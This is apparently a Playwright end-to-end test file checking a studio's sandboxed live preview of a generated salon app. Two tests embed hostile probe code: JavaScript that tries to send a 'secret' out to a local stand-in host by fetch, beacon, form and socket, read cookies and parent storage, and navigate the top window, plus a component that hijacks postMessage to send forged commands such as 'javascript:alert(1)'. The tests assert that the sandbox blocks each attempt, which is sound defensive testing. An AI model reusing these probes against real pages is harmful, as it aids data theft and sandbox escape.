"""The live preview: an application to click through before it is published, in a frame that keeps all in."""

import asyncio
import re
from typing import Any

import pytest
from playwright.async_api import Frame, FrameLocator, Page, expect

from tests.e2e.studio.desk import Studio

SALON = "A hair salon with stylists, services and appointments. A stylist has a name and a phone number."
WIDE = {"width": 1900, "height": 900}
"""So wide that nothing is scaled, and a click lands where it is aimed at."""


async def shown(studio: Studio, text: str = SALON) -> tuple[Page, FrameLocator, str]:
    """The preview of a new session, once it is drawn."""
    await studio.page.set_viewport_size(WIDE)
    session = await studio.session(text)
    page = await studio.go(f"/sessions/{session}/preview")
    frame = page.frame_locator("iframe.preview-frame")
    await expect(frame.get_by_role("navigation", name="Pages")).to_be_visible(timeout=30_000)
    return page, frame, session


def inside(page: Page) -> Frame:
    """The frame itself, to run something in."""
    return next(frame for frame in page.frames if frame.url.endswith("/studio/frame"))


@pytest.mark.deep
async def test_rows_are_added_in_the_preview_and_nothing_is_published(studio: Studio) -> None:
    page, frame, session = await shown(studio)
    await frame.get_by_role("link", name=re.compile("^Services")).click()
    await frame.get_by_role("button", name="Add service").first.click()
    form = frame.get_by_role("form", name="New service")
    await form.get_by_role("button", name="Add service").click()
    name = form.get_by_role("textbox", name=re.compile("^Name"))
    await expect(name).to_have_attribute("aria-invalid", "true")
    await name.fill("Hot towel shave")
    for number in await form.get_by_role("textbox", name=re.compile("Price|Duration")).all():
        await number.fill("30")
    await form.get_by_role("button", name="Add service").click()
    await expect(frame.get_by_role("link", name="Hot towel shave").first).to_be_visible()
    await page.get_by_role("button", name=re.compile("^Page")).click()
    await page.get_by_role("menuitemcheckbox", name="Stylists").click()
    await expect(frame.get_by_role("heading", name="Stylists", level=1)).to_be_visible()
    assert studio.call("GET", "/modules")["items"] == []
    assert (await asyncio.to_thread(studio.call, "GET", f"/sessions/{session}"))["module"] is None


@pytest.mark.deep
async def test_a_change_keeps_the_page_and_what_was_entered(studio: Studio) -> None:
    page, frame, session = await shown(studio)
    await frame.get_by_role("link", name=re.compile("^Stylists")).click()
    await frame.get_by_role("link").filter(has_text=re.compile(r"\w+ \w+")).last.wait_for()
    await frame.get_by_role("button", name="Add stylist").first.click()
    form = frame.get_by_role("form", name="New stylist")
    await form.get_by_role("textbox", name=re.compile("^Name")).fill("Zelda Quick")
    await form.get_by_role("button", name="Add stylist").click()
    await expect(frame.get_by_text("Zelda Quick").first).to_be_visible()
    await inside(page).evaluate("window.sameWindow = true")
    await asyncio.to_thread(
        studio.call, "POST", f"/sessions/{session}/messages", {"text": "add a birthday to stylists"}
    )
    await expect(frame.get_by_text("Birthday").first).to_be_visible(timeout=30_000)
    await expect(frame.get_by_text("Zelda Quick").first).to_be_visible()
    await expect(frame.get_by_role("heading", name="Stylists", level=1)).to_be_visible()
    assert await inside(page).evaluate("window.sameWindow") is True


@pytest.mark.deep
async def test_a_click_while_commenting_makes_the_next_message_about_that_part(studio: Studio) -> None:
    page, frame, _ = await shown(studio)
    await frame.get_by_role("link", name=re.compile("^Stylists")).click()
    await expect(frame.get_by_role("heading", name="Stylists", level=1)).to_be_visible()
    await page.get_by_role("button", name="Comment", exact=True).click()
    outline = frame.get_by_role("button", name="Comment on Stylist table")
    await outline.focus()
    await page.keyboard.press("Enter")
    await expect(page.get_by_text("StylistTable").first).to_be_visible()
    await expect(outline).to_have_count(0)
    await page.get_by_role("button", name="Comment", exact=True).press("c")
    await expect(outline).to_be_visible()
    await outline.press("Escape")
    await expect(outline).to_have_count(0)


@pytest.mark.deep
async def test_it_is_seen_as_another_role_light_and_dark_and_on_a_phone(studio: Studio) -> None:
    page, frame, _ = await shown(studio, f"{SALON} Stylists see only their own appointments.")
    before = await frame.get_by_role("navigation", name="Pages").get_by_role("link").count()
    await page.get_by_role("button", name=re.compile("^Seen as")).click()
    await page.get_by_role("menuitemcheckbox", name="Stylist").click()
    await expect(page.get_by_role("button", name=re.compile("Seen as.*Stylist"))).to_be_visible()
    links = frame.get_by_role("navigation", name="Pages").get_by_role("link")
    await expect(links.first).to_be_visible()
    assert await links.count() <= before
    await page.get_by_role("button", name="Show it dark").click()
    await expect(frame.locator("html[data-theme=dark]")).to_have_count(1)
    await page.get_by_role("button", name="Phone", exact=True).click()
    await inside(page).wait_for_function("innerWidth === 375")
    await page.get_by_role("button", name=re.compile("^Seen as")).click()
    await page.get_by_role("menuitemcheckbox", name="No rows").click()
    await expect(
        frame.get_by_text(re.compile("^No .* yet|Nothing|first", re.IGNORECASE)).first
    ).to_be_visible()


@pytest.mark.deep
async def test_an_empty_session_says_what_will_appear(studio: Studio) -> None:
    made = studio.call("POST", "/sessions", {"name": "Nothing yet"})
    page = await studio.go(f"/sessions/{made['session']['id']}/preview")
    await expect(page.get_by_text("Your application appears here")).to_be_visible()


async def write_component(studio: Studio, session: str, name: str, body: str) -> None:
    """Put this into a component of the session by hand."""
    path = f"src/components/{name}.tsx"
    text = f"export function {name}() {{\n{body}\n}}\n"
    await asyncio.to_thread(studio.call, "PUT", f"/sessions/{session}/files/{path}", {"text": text})


@pytest.mark.deep
async def test_a_part_that_breaks_can_be_asked_to_be_mended(studio: Studio) -> None:
    page, frame, session = await shown(studio)
    await write_component(studio, session, "StylistTable", '  throw new Error("no such thing");')
    await frame.get_by_role("link", name=re.compile("^Stylists")).click()
    await frame.get_by_role("button", name="Ask to mend it").click()
    await expect(
        page.get_by_role("textbox", name=re.compile("message|different", re.IGNORECASE)).first
    ).to_have_value(re.compile("no such thing"))
    await expect(page.get_by_text("StylistTable").first).to_be_visible()
    studio.faults.clear()


@pytest.mark.deep
async def test_a_mistake_in_a_file_is_named_and_the_last_preview_stays(studio: Studio) -> None:
    page, frame, session = await shown(studio)
    await write_component(studio, session, "StylistTable", "  return <p>;")
    await expect(page.get_by_text("This is the last preview that works")).to_be_visible()
    await expect(page.get_by_text(re.compile("src/components/StylistTable.tsx"))).to_be_visible()
    await expect(frame.get_by_role("navigation", name="Pages")).to_be_visible()
    studio.faults.clear()


ATTEMPTS = """
async () => {
  const tried = {};
  const attempt = async (name, work) => {
    try { tried[name] = String(await work()); } catch (error) { tried[name] = `refused: ${error.name}`; }
  };
  const loads = (make) => new Promise((resolve, reject) => {
    const element = make();
    element.onload = () => resolve("loaded");
    element.onerror = () => reject(Object.assign(new Error("no"), { name: "LoadError" }));
    setTimeout(() => reject(Object.assign(new Error("no"), { name: "Silence" })), 1500);
    document.body.append(element);
  });
  const other = "http://127.0.0.1:9/taken?secret=1";
  tried.origin = self.origin;
  await attempt("fetch of the platform", async () => (await fetch("/api/v1/auth/me")).status);
  await attempt("fetch elsewhere", async () => (await fetch(other)).status);
  await attempt("XHR", () => new Promise((resolve, reject) => {
    const request = new XMLHttpRequest();
    request.onload = () => resolve(request.status);
    request.onerror = () => reject(Object.assign(new Error("no"), { name: "NetworkError" }));
    request.open("GET", "/api/v1/auth/me");
    request.send();
  }));
  await attempt("image", () => loads(() => Object.assign(new Image(), { src: other })));
  const ours = "/api/v1/health";
  const tag = (name, more) => () => Object.assign(document.createElement(name), more);
  await attempt("image of the platform", () => loads(tag("img", { src: ours })));
  await attempt("script", () => loads(tag("script", { src: ours })));
  await attempt("module", () => import("/api/v1/health"));
  await attempt("style", () => loads(tag("link", { rel: "stylesheet", href: other })));
  await attempt("frame", async () => {
    const made = document.body.appendChild(document.createElement("iframe"));
    made.src = "/";
    await new Promise((resolve) => setTimeout(resolve, 500));
    return made.contentWindow.RTCPeerConnection ?? made.contentDocument;
  });
  await attempt("socket", () => new Promise((resolve, reject) => {
    const socket = new WebSocket("ws://127.0.0.1:9/");
    socket.onopen = () => resolve("open");
    socket.onerror = () => reject(Object.assign(new Error("no"), { name: "SocketError" }));
  }));
  await attempt("events", () => new Promise((resolve, reject) => {
    const source = new EventSource("/api/v1/health");
    source.onopen = () => resolve("open");
    source.onerror = () => reject(Object.assign(new Error("no"), { name: "SourceError" }));
  }));
  await attempt("beacon", () => navigator.sendBeacon(other, "secret"));
  await attempt("peers", () => typeof RTCPeerConnection);
  await attempt("window", () => window.open(other));
  await attempt("top", () => { top.location.href = other; return "gone"; });
  await attempt("parent's page", () => parent.document.title);
  await attempt("parent's store", () => parent.localStorage.length);
  await attempt("store", () => localStorage.length);
  await attempt("cookies", () => document.cookie);
  await attempt("form", () => {
    const form = document.body.appendChild(document.createElement("form"));
    form.action = other;
    form.submit();
    return "sent";
  });
  return tried;
}
"""
OPEN = {"beacon", "peers", "window", "form", "frame"}
"""What fails without throwing; each has a line of its own below."""


async def test_code_in_the_preview_reaches_nothing(studio: Studio) -> None:
    page, _, _ = await shown(studio)
    requests: list[str] = []
    page.on("requestfinished", lambda request: requests.append(request.url))
    address = page.url
    tried: dict[str, Any] = await inside(page).evaluate(ATTEMPTS)
    assert tried.pop("origin") == "null"
    assert {name: result for name, result in tried.items() if not result.startswith("refused")}.keys() <= OPEN
    assert (tried["peers"], tried["window"]) == ("undefined", "null")
    assert tried["frame"] in {"null", "undefined"} or tried["frame"].startswith("refused")
    await asyncio.sleep(0.5)
    assert page.url == address
    assert [url for url in requests if "127.0.0.1:9" in url or "/api/v1/health" in url] == []
    assert len(page.context.pages) == 1
    studio.faults.clear()


async def test_what_hostile_code_says_is_not_acted_on(studio: Studio) -> None:
    page, frame, session = await shown(studio)
    hostile = """
  const steal = MessagePort.prototype.postMessage;
  MessagePort.prototype.postMessage = function (said) {
    if (said?.kind) window.say = (told) => steal.call(this, told);
    return steal.call(this, said);
  };
  return <p>I am hostile</p>;"""
    await write_component(studio, session, "StylistTable", hostile)
    await frame.get_by_role("link", name=re.compile("^Stylists")).click()
    await expect(frame.get_by_text("I am hostile")).to_be_visible(timeout=30_000)
    await frame.get_by_role("link", name=re.compile("^Services")).click()
    await expect(frame.get_by_role("heading", name="Services", level=1)).to_be_visible()
    inner = inside(page)
    address = page.url
    for said in (
        {"kind": "pointed", "component": "cmp_nothing"},
        {"kind": "mend", "component": "cmp_nothing", "message": "x"},
        {"kind": "place", "path": "javascript:alert(1)", "role": None},
        {"kind": "run", "code": "alert(1)"},
        {"kind": "comment", "isOn": "yes"},
        "comment",
        None,
    ):
        await inner.evaluate("(said) => { say(said); parent.postMessage(said, '*'); }", said)
    await asyncio.sleep(0.3)
    assert page.url == address
    await expect(page.get_by_role("button", name="Comment", exact=True)).to_have_attribute(
        "aria-pressed", "false"
    )
    await expect(page.get_by_text(re.compile("^About ", re.IGNORECASE))).to_have_count(0)
    await inner.evaluate(
        "() => { for (let n = 0; n < 200; n++) say({ kind: 'comment', isOn: n % 2 === 0 }); }"
    )
    await expect(page.get_by_text("The preview was stopped")).to_be_visible()
    studio.faults.clear()
